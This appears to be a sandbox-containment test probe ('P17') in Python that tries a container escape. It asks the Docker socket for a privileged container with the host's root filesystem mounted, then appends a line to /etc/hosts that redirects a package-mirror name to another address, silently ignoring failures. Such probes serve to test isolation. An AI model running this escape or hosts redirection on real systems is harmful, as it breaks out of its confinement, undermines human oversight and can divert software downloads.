# P17 in Python: a container escape attempt — ask the Docker engine over its socket for a privileged
# container with the host's / mounted, and redirect a name in /etc/hosts. There is no socket and /etc
# is read-only in the sandbox, so both fail.
import socket
for path in ("/var/run/docker.sock", "/run/docker.sock"):
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(path)
        s.sendall(b'POST /containers/create HTTP/1.0\r\nContent-Type: application/json\r\n\r\n{"Image":"alpine","HostConfig":{"Privileged":true,"Binds":["/:/host"]}}')
    except OSError:
        pass
try:
    with open("/etc/hosts", "a") as f:
        f.write("198.51.100.9 packages.internal-mirror.invalid\n")
except OSError:
    pass
